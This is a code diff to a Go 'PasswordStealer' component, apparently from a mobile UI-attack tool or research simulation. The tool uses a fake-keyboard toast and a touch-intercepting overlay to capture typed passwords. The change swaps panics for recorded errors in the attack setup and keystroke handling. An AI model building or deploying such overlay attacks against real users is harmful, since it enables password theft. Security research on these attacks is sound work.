@@ -71,6 +71,35 @@ type PasswordStealer struct {
 	// capture statistics
 	downs, ups, cancels uint64
 	startedAt           time.Duration
+
+	// firstErr records the first failure inside event callbacks, which
+	// have nowhere to return an error; runners check Err after the run.
+	firstErr error
+}
+
+// Err reports the first failure the stealer hit inside a callback (nil
+// normally), including errors surfaced by its sub-attacks.
+func (p *PasswordStealer) Err() error {
+	if p.firstErr != nil {
+		return p.firstErr
+	}
+	if p.overlay != nil {
+		if err := p.overlay.Err(); err != nil {
+			return err
+		}
+	}
+	if p.toast != nil {
+		if err := p.toast.Err(); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func (p *PasswordStealer) fail(err error) {
+	if p.firstErr == nil {
+		p.firstErr = err
+	}
 }
 
 // SelectAttackWindow implements the attacker's device fingerprinting step
@@ -201,7 +230,11 @@ func (p *PasswordStealer) startAttack() {
 		Content:  func() string { return "fake-keyboard:" + p.decoder.Board().String() },
 	})
 	if err != nil {
-		panic(fmt.Sprintf("core: build toast attack: %v", err))
+		// The sub-attack configs derive from the stealer's own validated
+		// config; a failure here means the attack never deploys.
+		p.fail(fmt.Errorf("core: build toast attack: %w", err))
+		p.active = false
+		return
 	}
 	p.toast = toast
 	overlay, err := NewOverlayAttack(p.stack, OverlayAttackConfig{
@@ -211,14 +244,16 @@ func (p *PasswordStealer) startAttack() {
 		OnTouch: p.onInterceptedTouch,
 	})
 	if err != nil {
-		panic(fmt.Sprintf("core: build overlay attack: %v", err))
+		p.fail(fmt.Errorf("core: build overlay attack: %w", err))
+		p.active = false
+		return
 	}
 	p.overlay = overlay
 	if err := p.toast.Start(); err != nil {
-		panic(fmt.Sprintf("core: start toast attack: %v", err))
+		p.fail(fmt.Errorf("core: start toast attack: %w", err))
 	}
 	if err := p.overlay.Start(); err != nil {
-		panic(fmt.Sprintf("core: start overlay attack: %v", err))
+		p.fail(fmt.Errorf("core: start overlay attack: %w", err))
 	}
 }
 
@@ -244,7 +279,7 @@ func (p *PasswordStealer) observeDown(pos geom.Point) {
 		// Transition key: swap the fake keyboard toast to the new
 		// sub-keyboard immediately.
 		if err := p.toast.SwitchContent(); err != nil {
-			panic(fmt.Sprintf("core: switch fake keyboard: %v", err))
+			p.fail(fmt.Errorf("core: switch fake keyboard: %w", err))
 		}
 	}
 	if (key.Kind == keyboard.KindChar || key.Kind == keyboard.KindSpace || key.Kind == keyboard.KindBackspace) && p.passwordRef != nil {
